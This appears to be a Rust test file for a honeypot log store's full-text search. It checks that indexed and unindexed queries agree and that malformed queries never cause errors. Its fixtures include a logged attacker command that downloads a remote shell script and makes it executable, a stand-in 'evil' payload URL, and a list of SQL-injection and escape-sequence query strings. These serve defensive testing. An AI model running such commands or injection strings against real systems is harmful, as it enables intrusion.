//! Searching finds the same rows whether the index has taken them in or not.

use crate::world::{World, bounty, credential, log, on_every_backend, uuid};
use store::{Batch, LogQuery, NewLog, search::Search};

fn rows() -> Vec<NewLog> {
    let row = |n: u32, decky: &str, service: &str, event: &str, ip: &str, port: u16, fields: &str, msg: &str| NewLog {
        decky: decky.into(),
        service: service.into(),
        event_type: event.into(),
        attacker_ip: ip.into(),
        dst_port: Some(port),
        fields: fields.into(),
        msg: msg.into(),
        ..log(n)
    };
    vec![
        row(
            1,
            "local:web-01",
            "ssh",
            "auth_attempt",
            "10.0.0.5",
            22,
            r#"{"principal":"root","secret_printable":"hunter2","try":1}"#,
            "root tried a password",
        ),
        row(
            2,
            "local:web-01",
            "http",
            "request",
            "10.0.0.5",
            80,
            r#"{"path":"/cgi-bin/luci","status":404,"tls":false,"headers":[["User-Agent","curl/8.5"]]}"#,
            "GET /cgi-bin/luci",
        ),
        row(3, "local:db-02", "mysql", "query", "2001:db8::5", 3_306, r#"{"query":"select '\u0000]<script>' -- x"}"#, "asked select"),
        row(
            4,
            "local:db-02",
            "ssh",
            "command",
            "10.0.0.50",
            22,
            r#"{"command":"wget http://198.51.100.7/x.sh; chmod +x x.sh"}"#,
            "ran wget",
        ),
        row(5, "local:web-01", "ssh", "command", "10.0.0.5", 2_222, r#"{"command":"echo Ünïcode 漢字","user":"root"}"#, "ran echo"),
        row(6, "agent7:web-01", "ssh", "session_recorded", "", 22, r#"{"nested":{"deep":["needle"]}}"#, ""),
    ]
}

const SEARCHES: &[(&str, &[i64])] = &[
    ("", &[6, 5, 4, 3, 2, 1]),
    ("ssh", &[6, 5, 4, 1]),
    ("SSH Command", &[5, 4]),
    ("decky:local:web-01", &[5, 2, 1]),
    ("decky:web-01", &[6, 5, 2, 1]),
    ("decky:web", &[]),
    ("service:ssh event:command", &[5, 4]),
    ("event:command decky:db-02", &[4]),
    ("attacker:10.0.0.5", &[5, 2, 1]),
    ("attacker-ip:10.0.0.5 ssh", &[5, 1]),
    ("attacker_ip:2001:db8::5", &[3]),
    ("2001:db8::5", &[3]),
    ("10.0.0.5", &[5, 2, 1]),
    ("port:22", &[6, 4, 1]),
    ("port:x", &[]),
    ("principal:root", &[1]),
    ("user:root", &[5]),
    ("root", &[5, 1]),
    ("status:404", &[2]),
    ("404", &[2]),
    ("tls:false", &[2]),
    ("try:1", &[1]),
    ("status:40", &[]),
    ("curl", &[2]),
    ("\"curl/8.5\"", &[2]),
    ("/cgi-bin/luci", &[2]),
    ("hunter*", &[1]),
    ("hunter", &[]),
    ("wget chmod", &[4]),
    ("http://198.51.100.7/x.sh", &[4]),
    ("198.51.100.7", &[4]),
    ("ünïcode", &[5]),
    ("字", &[5]),
    ("needle", &[6]),
    ("script", &[3]),
    ("query:\"select '\u{0}]<script>' -- x\"", &[3]),
    ("\"select '\"", &[3]),
    ("***", &[]),
    ("service:ssh \"\u{0}\"", &[]),
];

const HOSTILE: &[&str] = &[
    "'",
    "\"",
    "\"\"\"",
    "' OR 1=1 --",
    "\") OR (\"",
    "NEAR(a b)",
    "a NEAR/2 b",
    "a AND",
    "NOT",
    "OR OR",
    "^a",
    "a*b*",
    "{a b}: c",
    "words:x",
    "-a",
    "+a -b",
    "~a",
    "(",
    ")",
    "@",
    "a@@b",
    "\\",
    "\\\\\\",
    "%",
    "_",
    "a%b_c",
    "\u{0}",
    "\u{1b}[31m",
    "key:'",
    "$.x:1",
    "a.b:c",
    "\u{202e}",
    "😀",
    "--",
    "/*",
    ";",
    "[",
    "]",
    "?",
    "?1",
    ":a",
    "a:",
    "::",
    "*",
    "a*",
    "ab*",
    "log_words:x",
    "rowid:1",
    "\u{fffd}",
    "x'41'",
    "0x41",
    "1e999",
    "NULL",
    "\"unclosed",
];

on_every_backend! {
    async fn index_and_scan_agree(world: &World) {
        world.logs(rows()).await;
        for step in 0..=3 {
            let stored = world.store.logs_after(0, 100).await.unwrap();
            for (search, expect) in SEARCHES {
                let page = world.store.logs(&LogQuery { search: Some((*search).into()), limit: 100, ..LogQuery::default() }).await.unwrap();
                assert_eq!(page.data.iter().map(|row| row.id).collect::<Vec<_>>(), *expect, "{search:?} after step {step}");
                assert_eq!(usize::try_from(page.total).unwrap(), expect.len(), "{search:?} after step {step}");
                let parsed = Search::parse(search);
                assert!(stored.iter().rev().filter(|row| parsed.matches(row)).map(|row| row.id).eq(expect.iter().copied()), "{search:?}");
            }
            // Half of the rows are in the index, then all.
            world.store.index_text(2).await.unwrap();
        }
        assert_eq!(world.store.index_text(100).await.unwrap(), 0);
    }

    async fn no_search_is_an_error(world: &World) {
        world.logs(rows()).await;
        world.record(Batch { credentials: vec![credential("10.0.0.5", "root", "x")], bounties: vec![bounty("10.0.0.5", "url", r#"{"url":"x"}"#)], ..Batch::default() }).await;
        for indexed in [false, true] {
            if indexed {
                world.index().await;
            }
            for search in HOSTILE {
                let query = LogQuery { search: Some((*search).into()), limit: 10, ..LogQuery::default() };
                world.store.logs(&query).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
                world.store.histogram(&query, 60).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
                world.store.histogram(&query, 1).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
                world.store.credentials(Some(search), Some(search), Some(search), 10, 0).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
                world.store.bounties(Some(search), Some(search), Some(search), 10, 0).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
                let attackers = store::AttackerQuery { search: Some((*search).into()), service: Some((*search).into()), decky: Some((*search).into()), limit: 10, ..Default::default() };
                world.store.attackers(&attackers).await.unwrap_or_else(|e| panic!("{search:?}: {e}"));
            }
        }
    }

    async fn rows_arriving_after_the_index_are_found(world: &World) {
        world.logs((0..30).map(log).collect()).await;
        world.index().await;
        world.logs((30..40).map(log).collect()).await;
        let ask = |limit, offset| LogQuery { search: Some("wget attacker:192.0.2.1".into()), limit, offset, ..LogQuery::default() };
        for (limit, offset) in [(5, 0), (5, 8), (20, 5), (10, 10), (10, 35), (10, 50)] {
            let page = world.store.logs(&ask(limit, offset)).await.unwrap();
            assert_eq!(page.total, 40);
            let expect: Vec<i64> = (1..=40).rev().skip(usize::try_from(offset).unwrap()).take(usize::try_from(limit).unwrap()).collect();
            assert_eq!(page.data.iter().map(|row| row.id).collect::<Vec<_>>(), expect, "{limit} {offset}");
        }
    }

    async fn credentials_and_bounties_are_searched_too(world: &World) {
        let batch = Batch {
            credentials: vec![
                credential("10.0.0.5", "root", "hunter2"), credential("10.0.0.5", "admin", "P@ss w0rd"), credential("10.0.0.6", "root", "x' OR 1"),
            ],
            bounties: vec![
                bounty("10.0.0.5", "url", r#"{"url":"http://evil/x.sh"}"#), bounty("10.0.0.6", "fingerprint", r#"{"ja4":"t13d"}"#), bounty("10.0.0.6", "fingerprint", r#"{"ja4":"t13d"}"#),
            ],
            ..Batch::default()
        };
        world.record(batch).await;
        for indexed in [false, true] {
            if indexed {
                world.index().await;
            }
            for (search, service, ip, expect) in [
                (Some("root"), None, None, 2), (Some("principal:root"), None, Some("10.0.0.6"), 1), (Some("secret:hunter2"), None, None, 1),
                (None, Some("ssh"), None, 3), (None, Some("ftp"), None, 0), (None, None, Some("10.0.0.5"), 2), (Some("w0rd"), Some("ssh"), Some("10.0.0.5"), 1), (None, None, None, 3),
            ] {
                let page = world.store.credentials(search, service, ip, 10, 0).await.unwrap();
                assert_eq!((page.total, page.data.len()), (expect, usize::try_from(expect).unwrap()), "{search:?} {service:?} {ip:?} {indexed}");
            }
            for (kind, search, ip, expect) in [(None, None, None, 2), (Some("url"), None, None, 1), (None, Some("evil"), None, 1), (None, Some("ja4:t13d"), Some("10.0.0.6"), 1), (None, None, Some("10.0.0.6"), 1)] {
                let page = world.store.bounties(kind, search, ip, 10, 0).await.unwrap();
                assert_eq!((page.total, page.data.len()), (expect, usize::try_from(expect).unwrap()), "{kind:?} {search:?} {ip:?} {indexed}");
            }
        }
    }

    async fn two_indexers_at_once_do_no_harm(world: &World) {
        world.logs((0..200).map(log).collect()).await;
        let work = |store: store::Store| async move {
            for _ in 0..30 {
                store.index_text(17).await.unwrap();
            }
        };
        tokio::join!(work(world.store.clone()), work(world.store.clone()));
        let page = world.store.logs(&LogQuery { search: Some("wget ssh".into()), limit: 1_000, ..LogQuery::default() }).await.unwrap();
        assert_eq!((page.total, page.data.len()), (200, 200));
        assert_eq!(page.data[0].event_uuid, uuid(199));
    }
}
